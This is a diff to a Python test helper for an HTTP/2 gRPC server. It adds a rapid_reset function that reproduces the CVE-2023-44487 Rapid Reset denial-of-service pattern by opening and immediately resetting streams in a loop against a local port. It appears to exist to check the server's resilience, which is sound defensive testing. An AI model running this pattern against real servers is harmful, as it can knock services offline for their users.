@@ -9,13 +9,16 @@ never reads a byte of its response.
 
 from __future__ import annotations
 
+import select
 import socket
 import struct
+import time
 from collections.abc import Sequence
 
 import h2.config
 import h2.connection
 import h2.events
+import h2.exceptions
 import h2.settings
 from google.protobuf.message import Message
 
@@ -108,4 +111,35 @@ def many_calls(
     return sock, statuses
 
 
-__all__ = ["EMPTY_MESSAGE", "frame", "many_calls", "never_reading", "raw_call"]
+def rapid_reset(port: int, path: str, body: bytes, seconds: float, headers: Sequence[tuple[bytes, bytes]] = ()) -> int:
+    """CVE-2023-44487's pattern on one connection for ``seconds``: open a call and reset it at once, again
+    and again, reading only to answer the server; how many calls it opened before the server ended the
+    connection (GOAWAY or close), stopped reading for a second, or the time was up."""
+    config = h2.config.H2Configuration(client_side=True, header_encoding=None)
+    connection = h2.connection.H2Connection(config)
+    opened = 0
+    deadline = time.monotonic() + seconds
+    with socket.create_connection(("127.0.0.1", port), timeout=1.0) as sock:
+        connection.initiate_connection()
+        try:
+            while time.monotonic() < deadline:
+                for _ in range(100):
+                    stream = connection.get_next_available_stream_id()
+                    connection.send_headers(stream, [*_REQUIRED, (b":path", path.encode()), *_GRPC, *headers])
+                    connection.send_data(stream, body)
+                    connection.reset_stream(stream)
+                    opened += 1
+                sock.sendall(connection.data_to_send())
+                while select.select([sock], [], [], 0)[0]:
+                    data = sock.recv(65536)
+                    if not data:
+                        return opened
+                    events = connection.receive_data(data)
+                    if any(isinstance(event, h2.events.ConnectionTerminated) for event in events):
+                        return opened
+        except (OSError, h2.exceptions.ProtocolError):
+            return opened
+    return opened
+
+
+__all__ = ["EMPTY_MESSAGE", "frame", "many_calls", "never_reading", "rapid_reset", "raw_call"]
